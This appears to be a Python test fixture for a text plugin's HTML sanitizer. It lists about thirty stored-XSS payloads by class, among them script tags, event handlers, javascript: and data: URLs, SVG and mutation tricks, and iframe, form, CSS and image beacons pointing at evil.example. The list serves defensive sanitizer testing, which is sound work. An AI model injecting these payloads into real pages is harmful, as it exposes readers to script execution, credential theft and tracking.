"""Stored-XSS payloads an editor (or a stolen editor account) might paste into a text plugin.

Each is (class, payload). Alerts call alert(); beacons point at evil.example, an origin that must
never be contacted when a patient reads the page.
"""

XSS_PAYLOADS = [
    ("script tag", "<script>alert('s1')</script>"),
    ("script tag", "<SCRIPT SRC=https://evil.example/s2.js></SCRIPT>"),
    ("script tag", "<p title=\"&quot;><script>alert('s3')</script>\">quoted</p>"),
    ("event handler", "<img src=x onerror=alert('e1')>"),
    ("event handler", "<details open ontoggle=alert('e2')>d</details>"),
    ("event handler", "<input autofocus onfocus=alert('e3')>"),
    ("event handler", "<audio src=x onerror=alert('e4')></audio>"),
    ("event handler", "<noscript><p title=\"</noscript><img src=x onerror=alert('e5')>\"></noscript>"),
    ("javascript: URL", "<a href=\"javascript:alert('j1')\">j1</a>"),
    ("javascript: URL", "<a href=\"  JaVaScRiPt:alert('j2')\">j2</a>"),
    ("javascript: URL", "<a href=\"jav&#x09;ascript:alert('j3')\">j3</a>"),
    ("javascript: URL", '<meta http-equiv="refresh" content="0;url=javascript:alert(\'j4\')">'),
    ("data: URL", "<a href=\"data:text/html,<script>alert('d1')</script>\">d1</a>"),
    ("data: URL", '<object data="data:text/html;base64,PHNjcmlwdD5hbGVydCgnZDInKTwvc2NyaXB0Pg=="></object>'),
    ("SVG", "<svg onload=alert('v1')></svg>"),
    ("SVG", "<svg><script>alert('v2')</script></svg>"),
    ("SVG", "<svg><a xlink:href=\"javascript:alert('v3')\"><text y=20>v3</text></a></svg>"),
    ("SVG", "<math><mtext><table><mglyph><style><img src=x onerror=alert('v4')></style></mglyph></table>"),
    ("iframe/embed", "<iframe src=\"javascript:alert('f1')\"></iframe>"),
    ("iframe/embed", "<iframe srcdoc=\"<script>alert('f2')</script>\"></iframe>"),
    ("iframe/embed", '<iframe src="https://evil.example/f3"></iframe>'),
    ("iframe/embed", '<embed src="https://evil.example/f4.swf">'),
    ("iframe/embed", '<form action="https://evil.example/f5"><button>Send</button></form>'),
    ("iframe/embed", '<base href="https://evil.example/">'),
    ("CSS beacon", '<div style="background:url(https://evil.example/c1.png)">c1</div>'),
    ("CSS beacon", "<style>@import 'https://evil.example/c2.css';</style>"),
    ("CSS beacon", '<link rel="stylesheet" href="https://evil.example/c3.css">'),
    ("external image", '<img src="https://evil.example/i1.png" alt="i1">'),
    ("external image", '<img srcset="https://evil.example/i2.png 1x" alt="i2">'),
    ("external image", '<picture><source srcset="https://evil.example/i3.png"><img alt="i3"></picture>'),
    ("external image", '<video poster="https://evil.example/i4.png"></video>'),
]
